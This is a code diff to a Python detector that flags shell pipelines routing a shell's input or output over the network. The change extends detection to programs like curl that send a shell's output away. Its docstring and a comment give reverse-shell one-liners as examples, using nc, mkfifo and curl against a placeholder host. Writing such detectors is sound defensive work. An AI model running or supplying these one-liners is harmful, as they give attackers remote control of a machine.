@@ -136,12 +136,13 @@ def remote_shell_pipe(commands: list[Command]) -> bool:
     """`nc host 4444 | sh`, `mkfifo f; cat f | sh -i | nc host 4444 > f`: a shell whose
     input or output flows through a network connection."""
     kinds = {id(command): _pipe_kind(command) for command in commands}
-    if not {"shell", "net"} <= set(kinds.values()):
+    if "shell" not in kinds.values():
         return False
     for command in commands:
         upstream = {kinds.get(id(c)) for c in command.upstream}
         mine = kinds[id(command)]
-        if (mine == "shell" and "net" in upstream) or (mine == "net" and "shell" in upstream):
+        if (mine == "shell" and "net" in upstream) or (
+                mine in ("net", "sender") and "shell" in upstream):
             return True
     return False
 
@@ -150,4 +151,8 @@ def _pipe_kind(command: Command) -> str:
     resolved = resolve([w.text for w in command.words])
     if reads_stdin_shell(resolved.name, resolved.args, command.stdin_text is not None):
         return "shell"
-    return "net" if connector(resolved.name, resolved.args) else ""
+    if connector(resolved.name, resolved.args):
+        return "net"
+    # Any program that talks to the network carries what a shell prints (`sh -i | curl -T -
+    # URL`): the shell's output sent away. (A download fed to a shell is judged elsewhere.)
+    return "sender" if resolved.name in SENDERS else ""
